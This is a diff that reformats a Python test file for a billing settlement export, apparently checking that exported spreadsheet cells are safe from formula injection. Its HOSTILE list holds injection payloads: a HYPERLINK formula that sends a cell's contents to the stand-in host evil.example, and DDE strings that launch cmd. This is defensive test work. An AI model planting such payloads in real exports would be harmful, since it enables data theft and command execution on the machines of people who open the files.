@@ -17,8 +17,15 @@ from chargeshed.settlement.exports import statement_file
 from chargeshed.settlement.periods import Period
 from tests.settlement.conftest import local
 
-HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=2+2", "＝1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=2+2",
+    "＝1+1",
+]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -38,8 +45,14 @@ def hostile_month(app, make_site, make_resident, ports, charge, agree, at, top_u
     for shed, name in zip(site.sheds, HOSTILE[1:4], strict=True):
         shed.name = name
     db.session.commit()
-    agree(site, parties=[PartyInput(HOSTILE[4], "operator", 6000, pays_electricity=True),
-                         PartyInput(HOSTILE[5], "property", 3000), PartyInput(HOSTILE[6], "owners_committee", 1000)])
+    agree(
+        site,
+        parties=[
+            PartyInput(HOSTILE[4], "operator", 6000, pays_electricity=True),
+            PartyInput(HOSTILE[5], "property", 3000),
+            PartyInput(HOSTILE[6], "owners_committee", 1000),
+        ],
+    )
     user = make_resident()
     at(2026, 10, 1, 8)
     top_up(user, 5000)
@@ -60,8 +73,12 @@ def _assert_no_formula_text(cells: list[str]) -> None:
     texts = [c for c in cells if c]
     for hostile in HOSTILE:
         assert any(hostile.strip() in c for c in texts), f"{hostile!r} missing from the export"
-    dangerous = [c for c in texts if c.startswith(("=", "+", "@", "\t", "\r", "＝")) or
-                 (c.startswith("-") and not c.replace("-", "", 1).replace(".", "").replace(",", "").isdigit())]
+    dangerous = [
+        c
+        for c in texts
+        if c.startswith(("=", "+", "@", "\t", "\r", "＝"))
+        or (c.startswith("-") and not c.replace("-", "", 1).replace(".", "").replace(",", "").isdigit())
+    ]
     assert dangerous == []
 
 
